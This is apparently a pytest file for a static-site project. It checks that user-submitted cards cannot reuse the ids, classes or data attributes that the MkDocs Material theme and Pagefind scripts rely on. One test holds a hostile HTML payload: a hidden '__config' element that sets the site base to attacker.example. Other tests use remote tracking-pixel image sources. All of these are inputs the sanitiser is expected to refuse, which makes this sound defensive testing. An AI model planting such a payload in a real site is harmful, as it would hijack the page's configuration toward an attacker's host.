"""A card cannot take a name the theme's or the site's scripts look up (docs/securite.md).

Material reads its settings from `#__config` and finds its parts by `data-md-component`; Pagefind's
interface and the site's scripts have their own ids, classes and `data-*` attributes. The names are
read here from what actually runs: every id and `data-*` attribute of the built pages outside the
article, every selector of Material's bundle (from its source map), of Pagefind's interface and of
the site's scripts. Each must be refused by `recueil check` in a card and dropped by the sanitiser.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import material
import pytest

from recueil.addresses import ENGINE_ASSETS_DIR
from recueil.cards.bodies import markdown_findings
from recueil.cards.rendering import site_markdown
from recueil.cards.sanitize import TEMPLATE_ID_PREFIX, card_attribute_problem, clean_html

MATERIAL_JS = Path(material.__file__).parent / "templates" / "assets" / "javascripts"
SELECTOR_CALL = re.compile(
    r"""(?:getElements?|getOptionalElement|querySelector(?:All)?|getElementById|closest|matches)\(\s*["']([^"']+)["']""")
SELECTOR_ID = re.compile(r"#([A-Za-z_][\w-]*)")
SELECTOR_CLASS = re.compile(r"\.([A-Za-z_][\w-]*)")
SELECTOR_DATA = re.compile(r"\[(data-[\w-]+)")
ARTICLE = re.compile(r"<article\b.*?</article>", re.S)
PAGE_TYPES = ["index.html", "cas/index.html", "cas/niort-portail-ressources-naturelles/index.html",
              "recommandations/mesurer-impacts/index.html", "recherche/index.html", "carte/index.html",
              "contribuer/proposer/index.html", "donnees/index.html"]


def _selectors(text: str) -> list[str]:
    return SELECTOR_CALL.findall(text)


def _material_selectors() -> list[str]:
    source_map = next(MATERIAL_JS.glob("bundle.*.min.js.map"))
    sources = json.loads(source_map.read_text(encoding="utf-8"))
    return [selector for name, text in zip(sources["sources"], sources["sourcesContent"], strict=True)
            if "node_modules" not in name for selector in _selectors(text or "")]


def _script_selectors(site: Path) -> list[str]:
    scripts = [*ENGINE_ASSETS_DIR.glob("recueil*.js"), *(site / "pagefind").glob("pagefind*ui.js")]
    return [selector for path in scripts for selector in _selectors(path.read_text(encoding="utf-8"))]


@pytest.fixture(scope="module")
def owned_names(real_site: Path) -> dict[str, set[str]]:
    """Ids, classes and data-* attributes that the theme, Pagefind and the site's scripts use."""
    selectors = _material_selectors() + _script_selectors(real_site)
    names: dict[str, set[str]] = {"id": set(), "class": set(), "data": set()}
    for selector in selectors:
        names["id"].update(SELECTOR_ID.findall(selector))
        names["class"].update(SELECTOR_CLASS.findall(selector))
        names["data"].update(SELECTOR_DATA.findall(selector))
    for page in PAGE_TYPES:
        html = (real_site / page).read_text(encoding="utf-8")
        names["id"].update(re.findall(r'\sid="([^"]+)"', ARTICLE.sub("", html)))
        names["data"].update(re.findall(r"\s(data-[\w-]+)", html))
    return names


def test_the_names_were_found(owned_names):
    """The reading above works: it finds the names the attack of issue #16 used."""
    assert {"__config", "__drawer", "__search", "recueil-search-dialog"} <= owned_names["id"]
    assert {"data-md-component", "data-md-toggle", "data-pagefind-body", "data-recueil-search"} <= owned_names["data"]
    assert {"md-typeset", "annotate"} <= owned_names["class"]


def test_a_card_may_not_use_an_id_of_the_theme_or_the_site(owned_names):
    for name in sorted(owned_names["id"]):
        assert card_attribute_problem("id", name) is not None, name
        if not name.startswith(TEMPLATE_ID_PREFIX):  # the card templates' own, kept in the page, refused in the card
            assert "id=" not in clean_html(f'<p id="{name}">x</p>'), name


def test_a_card_may_not_use_a_data_attribute(owned_names):
    for name in sorted(owned_names["data"]):
        assert card_attribute_problem(name, "x") is not None, name
        if name not in ("data-slug", "data-pagefind-ignore"):  # the card templates' own
            assert name not in clean_html(f'<p {name}="x">x</p>'), name


SITE = site_markdown(Path(__file__).resolve().parent.parent)  # the real site's Markdown


def test_a_card_may_not_use_a_class_the_scripts_look_up(owned_names):
    for name in sorted(owned_names["class"]):
        assert card_attribute_problem("class", name) is not None, name
        if not name.startswith("recueil-"):  # the card templates' own, kept in the page, refused in the card
            assert name not in clean_html(f'<p class="{name} libre">x</p>'), name


def test_the_config_attack_of_issue_16_is_refused_and_cannot_reach_the_page():
    attack = ('<div hidden id="__config">{"base": "https://attacker.example/x/", "features": '
              '["navigation.instant"]}</div>\n\nLe texte.\n{: #__config hidden }\n')
    messages = [finding.message for finding in markdown_findings(attack, "cas/x.md", lambda path: True, SITE)]
    assert len(messages) == 2  # each of the two elements is refused (its first problem: the hidden text)
    assert messages == ["texte caché aux lecteurs (attribut hidden)"] * 2
    visible = 'Le texte.\n{: #__config }\n'
    assert [finding.message for finding in markdown_findings(visible, "cas/x.md", lambda path: True, SITE)] == [
        "identifiant « __config » réservé au site"]
    cleaned = clean_html('<div hidden id="__config">{}</div><p aria-hidden="true" id="__config">Le texte.</p>')
    assert cleaned == '<div>{}</div><p>Le texte.</p>'


def test_a_card_keeps_ids_of_its_own_and_plain_classes():
    assert clean_html('<h2 id="contexte_1">x</h2><p id="chiffres-2022" class="note">y</p>') == (
        '<h2 id="contexte_1">x</h2><p id="chiffres-2022" class="note">y</p>')
    assert card_attribute_problem("id", "chiffres-2022") is None
    assert card_attribute_problem("class", "note") is None


@pytest.mark.parametrize("source", ["https://tracker.example/p.gif", "//tracker.example/p.gif",
                                    "\\\\tracker.example/p.gif", " https://t.example/p.gif", "HTTP://t.example/p"])
def test_a_remote_image_never_reaches_the_page(source):
    assert card_attribute_problem("src", source) is not None
    assert clean_html(f'<img src="{source}" alt="p">') == '<img alt="p">'
    assert clean_html('<img src="../assets/carte.png" alt="p">') == '<img src="../assets/carte.png" alt="p">'
